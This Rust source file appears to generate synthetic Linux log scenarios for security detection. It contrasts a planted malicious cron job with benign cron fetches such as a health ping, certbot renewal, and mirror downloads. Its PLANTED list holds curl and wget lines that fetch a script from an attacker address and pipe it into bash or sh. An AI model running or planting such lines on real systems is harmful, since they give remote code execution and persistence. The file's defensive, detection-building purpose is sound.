//! A Linux cron job calling out, seen apart from the attack that planted it: a crontab line
//! that fetches a script from the attacker's server by address and pipes it to a shell, and,
//! as its ordinary counterpart, cron jobs that fetch from services they name (a monitoring
//! ping, certificate renewal, a package mirror) without running what comes back.

use super::benign::{Scenario, Scene};
use super::benign_linux::{finish, host, run, scenario};
use super::linbg::new_pid;
use super::linrec::{LinLog, LinProc};
use super::record::{Clock, Role};
use super::world::{Host, attacker_ip};
use crate::event::{Cause, Risk};

pub const SCENARIOS: [Scenario; 2] = [
    scenario(
        "lnx-cron-fetch-exec",
        Cause::Malicious,
        Risk::High,
        &["T1053.003", "T1105", "T1059.004"],
        "A planted cron job downloads a script from the attacker's server and runs it",
        &[
            "Remove the cron entry (crontab -l -u USER, /etc/cron.d, /var/spool/cron) after preserving it",
            "Block the server's address at the firewall",
            "Collect the downloaded script and look for what it left (new users, keys, binaries)",
            "Find how the entry was planted: the web application, ssh keys, sudo history",
        ],
        fetch_exec,
    ),
    scenario(
        "lnx-cron-fetch",
        Cause::Legitimate,
        Risk::Low,
        &[],
        "A cron job fetches from a service it names (health ping, certificate renewal, mirror)",
        &[],
        fetch,
    ),
];

/// Download-and-run lines as planted crontabs carry them.
const PLANTED: [&str; 4] = [
    "curl -s http://{ip}/{file} | bash",
    "wget -q -O- http://{ip}:{port}/{file} | sh",
    "curl -fsSL http://{ip}:{port}/{file} | sh >/dev/null 2>&1",
    "(curl -s http://{ip}/{file}||wget -q -O- http://{ip}/{file})|bash",
];

/// Ordinary cron jobs that reach out by name: who runs them, the line, the programs it runs.
const ORDINARY: [(&str, u32, &str); 4] = [
    (
        "root",
        0,
        "curl -fsS -m 10 --retry 5 -o /dev/null https://hc-ping.com/5f0c6a1e-{id}",
    ),
    (
        "root",
        0,
        "certbot -q renew --deploy-hook 'systemctl reload nginx'",
    ),
    (
        "backup",
        1004,
        "wget -q -N -P /srv/mirror/keys https://deb.debian.org/debian/dists/bookworm/Release.gpg",
    ),
    (
        "root",
        0,
        "curl -fsS -o /var/lib/geoip/GeoLite2-Country.tar.gz https://download.maxmind.com/app/geoip_download?edition_id=GeoLite2-Country",
    ),
];

/// cron's own lines and the shell it starts for `line` as `user`.
fn cron_job<'w>(
    s: &mut Scene<'w>,
    h: &'w Host,
    user: &str,
    uid: u32,
    line: &str,
) -> (LinLog<'w>, Clock, LinProc, u32) {
    let mut log = LinLog::new(h, s.enabled, s.start);
    log.role = Role::Story;
    let mut c = Clock::at(s.start);
    let r = &mut s.rng;
    let pid = new_pid(r);
    let t = c.tick(r, 100, 900);
    log.auth(
        t,
        "CRON",
        Some(pid),
        &format!("pam_unix(cron:session): session opened for user {user}(uid={uid}) by (uid=0)"),
    );
    log.syslog(t, "CRON", Some(pid), &format!("({user}) CMD ({line})"));
    let home = if user == "www-data" {
        "/var/www".to_string()
    } else {
        super::linbg::home(user)
    };
    let sh = LinProc {
        pid: pid + 1,
        ppid: h.boot.cron,
        uid,
        // cron's pam_loginuid gives the job its user's login uid and a session of its own.
        auid: uid,
        ses: r.between(100, 900) as u32,
        tty: "(none)".into(),
        exe: "/usr/bin/dash".into(),
        argv: vec!["/bin/sh".into(), "-c".into(), line.into()],
        cwd: home,
    };
    log.exec(t, &sh);
    (log, c, sh, pid)
}

fn close(log: &mut LinLog<'_>, s: &mut Scene<'_>, c: &mut Clock, pid: u32, user: &str) {
    log.auth(
        c.tick(&mut s.rng, 200, 4_000),
        "CRON",
        Some(pid),
        &format!("pam_unix(cron:session): session closed for user {user}"),
    );
}

fn fetch_exec(s: &mut Scene<'_>) {
    let name = *s.rng.pick(&["web01", "app01", "db01"]);
    let h = host(s, name);
    let (user, uid) = *s.rng.pick(&[("root", 0u32), ("www-data", 33)]);
    let ip = attacker_ip(&s.rng.hex(6));
    let port = *s.rng.pick(&[8080u16, 8000, 4444, 80]);
    let file = *s.rng.pick(&["u.sh", "x", "i.sh", ".s", "kworker"]);
    let planted = *s.rng.pick(&PLANTED);
    let at = if planted.contains("{port}") {
        format!("{ip}:{port}")
    } else {
        ip.clone()
    };
    let url = format!("http://{at}/{file}");
    let line = planted
        .replace("{ip}:{port}", &at)
        .replace("{ip}", &ip)
        .replace("{file}", file);
    let (mut log, mut c, sh, pid) = cron_job(s, h, user, uid, &line);
    let r = &mut s.rng;
    let fetch_argv: Vec<&str> = if line.starts_with("wget") {
        vec!["wget", "-q", "-O-", &url]
    } else {
        vec!["curl", "-s", &url]
    };
    run(&mut log, r, &mut c, &sh, &fetch_argv, uid);
    let shell = if line.ends_with("| sh") || line.contains("| sh ") {
        "sh"
    } else {
        "bash"
    };
    run(&mut log, r, &mut c, &sh, &[shell], uid);
    close(&mut log, s, &mut c, pid, user);
    let summary = format!(
        "cron on {} ran `{line}` as {user}: it downloads a script from {ip}, an external address reached without a name, and pipes it straight into {shell}, the way a planted crontab keeps an attacker's foothold",
        h.name
    );
    let known = vec![h.boot.cron];
    finish(s, log, user, Some(uid), known, summary);
}

fn fetch(s: &mut Scene<'_>) {
    let name = *s.rng.pick(&["web01", "app01", "db01", "backup01"]);
    let h = host(s, name);
    let (user, uid, line) = *s.rng.pick(&ORDINARY);
    let line = line.replace("{id}", &s.rng.hex(12));
    let (mut log, mut c, sh, pid) = cron_job(s, h, user, uid, &line);
    let r = &mut s.rng;
    let argv: Vec<&str> = line
        .split_whitespace()
        .take_while(|w| !w.starts_with("--deploy-hook"))
        .collect();
    run(&mut log, r, &mut c, &sh, &argv, uid);
    close(&mut log, s, &mut c, pid, user);
    let program = argv.first().copied().unwrap_or("curl");
    let summary = format!(
        "cron on {} ran {program} as {user} on schedule (`{line}`): it reaches a named service and keeps what it fetches as a file; nothing downloaded is run",
        h.name
    );
    let known = vec![h.boot.cron];
    finish(s, log, user, Some(uid), known, summary);
}
